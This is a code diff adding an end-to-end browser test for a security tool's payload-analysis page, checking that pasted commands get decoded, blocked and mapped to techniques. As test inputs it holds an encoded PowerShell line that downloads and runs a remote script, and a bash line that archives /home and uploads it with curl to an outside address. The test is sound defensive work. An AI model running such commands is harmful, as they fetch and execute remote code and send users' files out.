@@ -1063,6 +1063,39 @@ test('models and rules show what the server loaded: the trees and network models
   assert.ok(found.rules.length > 0 && found.rules.length < rules.rules.length);
 });
 
+test('payload analysis: a pasted command gets its verdict with its layers and patterns, its alert shows the command line, a job is followed to its verdict', async () => {
+  const script = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')";
+  const encoded = `powershell.exe -nop -w hidden -enc ${Buffer.from(script, 'utf16le').toString('base64')}`;
+  await go('#/payload');
+  await page.locator(tid('payload-input')).fill(encoded);
+  await page.locator(tid('payload-submit')).click();
+  await page.locator(tid('verdict-summary')).waitFor();
+  assert.equal((await page.locator(tid('verdict-action')).textContent()).trim(), 'BLOCK');
+  assert.equal(await page.locator(tid('verdict-layer')).count(), 2);
+  assert.match(await page.locator(tid('verdict-layer')).nth(1).textContent(), /DownloadString/);
+  assert.ok(await page.locator(`${tid('verdict-patterns')} tbody tr`).count() > 0);
+  assert.match(await page.locator(tid('verdict-attack')).textContent(), /T1105/);
+  assert.match(await page.locator(tid('view-dynamic')).textContent(), /did not run/);
+  await shot('payload-verdict');
+  // Its alert: the command line as submitted and decoded.
+  await page.locator(tid('verdict-alert')).click();
+  await page.locator(tid('payload-card')).waitFor();
+  assert.match(await page.locator(tid('payload-decoded')).textContent(), /DownloadString/);
+  assert.equal((await page.locator(tid('payload-text')).textContent()).trim(), encoded);
+  await shot('payload-alert');
+  // A job: this server has no sandbox, so it is analysed statically and says why.
+  await go('#/payload');
+  await page.locator(tid('payload-input')).fill('tar czf /tmp/a.tgz /home && curl -T /tmp/a.tgz http://203.0.113.5/up');
+  await page.locator(tid('payload-shell')).selectOption('bash');
+  await page.locator(tid('payload-sandbox')).check();
+  await page.locator(tid('payload-submit')).click();
+  await page.waitForFunction(() => /#\/payload\/jobs\/\d+$/.test(location.hash));
+  await page.waitForFunction(() => document.querySelector('[data-testid="job-status"]')?.textContent === 'done', null, { timeout: 20_000 });
+  await page.locator(tid('verdict-summary')).waitFor();
+  assert.match(await page.locator(tid('verdict-notes')).textContent(), /not run in the sandbox/);
+  await shot('payload-job');
+});
+
 const LIVE_EVENT = (id, ts) => ({
   event_id: id, user_id: 'maria.gonzalez', activity_type: 'download', timestamp: ts,
   location: 'Lagos, NG', latitude: 6.4541, longitude: 3.3947,
